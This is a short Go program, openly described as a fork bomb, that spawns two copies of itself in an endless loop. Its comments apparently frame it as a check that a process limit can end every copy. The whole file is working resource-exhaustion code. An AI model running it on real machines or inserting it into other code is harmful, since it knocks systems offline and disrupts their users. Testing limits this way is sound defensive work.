// A fork bomb: every process starts two more of itself, and goes on doing so.
// The limit on processes must end all of them, however many there are by then.
package main

import (
	"fmt"
	"os"
	"os/exec"
)

func main() {
	self, err := os.Executable()
	if err != nil {
		fmt.Println(err)
		return
	}
	for {
		for range 2 {
			_ = exec.Command(self).Start()
		}
	}
}
